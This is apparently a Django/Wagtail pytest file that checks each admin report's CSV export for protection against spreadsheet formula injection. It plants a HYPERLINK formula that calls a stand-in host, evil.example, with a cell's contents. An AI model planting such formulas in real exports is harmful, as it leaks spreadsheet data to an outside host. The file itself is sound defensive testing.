"""Every report's CSV export is safe to open in a spreadsheet program: a title (or any other
text an editor wrote) beginning with a formula character comes out as text (OWASP's CSV
injection guidance), whichever report exports it."""

import csv
import datetime
import io

import pytest

from django.urls import reverse
from django.utils import timezone

from wagtail.admin.views.reports import ReportView

from campaign_site.editorial.reports import ReportView as SafeReportView
from campaign_site.reach import privacy
from campaign_site.reach.models import DailyCount
from podcasts.models import EpisodePage
from stories.models import ConsentRecord

pytestmark = pytest.mark.django_db

REPORTS = [
    "/admin/reports/reach/",
    "/admin/reports/podcast-downloads/",
    "/admin/reports/embeds-and-shares/",
    "/admin/reports/dissemination-gaps/",
    "/admin/reports/translation-coverage/",
    "expiring_consent",
]


def count(page, event, number, source=""):
    DailyCount.objects.create(
        day=privacy.today(),
        event=event,
        page=page,
        language=page.locale.language_code,
        source=source,
        count=number,
    )


def exported(client, report):
    url = reverse(report) if not report.startswith("/") else report
    response = client.get(url, {"export": "csv"})
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv"
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_planted_formula_comes_out_as_text_from_every_report(admin_client, story, start):
    planted = start + 'HYPERLINK("https://evil.example/?"&A1,"Open")'
    story.title = planted
    story.save(update_fields=["title"])
    episode = EpisodePage.objects.live().filter(locale__language_code="en").first()
    episode.title = planted
    episode.save(update_fields=["title"])
    record = ConsentRecord.objects.get(story=story)
    record.person = planted
    record.expires_on = timezone.localdate() + datetime.timedelta(days=10)
    record.save()
    count(story, "view", 3)  # few views: a dissemination gap too
    count(story, "embed", 7, source=planted)
    count(episode, "download", 5)

    for report in REPORTS:
        rows = exported(admin_client, report)
        cells = [cell for row in rows[1:] for cell in row]
        assert "'" + planted in cells, report
        assert planted not in cells, report
        assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))], report

    # numbers stay numbers
    reach = exported(admin_client, "/admin/reports/reach/")
    views = reach[0].index("Page views")
    # the story's three views, and the episode's downloads (its views are 0)
    assert sorted(row[views] for row in reach[1:] if row[0] == "'" + planted) == ["0", "3"]
    sources = exported(admin_client, "/admin/reports/embeds-and-shares/")
    assert [row[-1] for row in sources[1:] if row[4] == "'" + planted] == ["7"]


def test_harmless_text_is_exported_as_it_is(admin_client, story):
    count(story, "view", 3)
    rows = exported(admin_client, "/admin/reports/reach/")
    assert [row[0] for row in rows[1:]] == [story.title]


def test_every_report_of_the_project_exports_through_the_safe_view():
    def subclasses(cls):
        for sub in cls.__subclasses__():
            yield sub
            yield from subclasses(sub)

    ours = [
        view
        for view in subclasses(ReportView)
        if view.__module__.split(".")[0] in ("campaign_site", "stories", "podcasts", "training")
    ]
    assert len(ours) >= 6
    unsafe = [view.__qualname__ for view in ours if not issubclass(view, SafeReportView)]
    assert not unsafe, unsafe
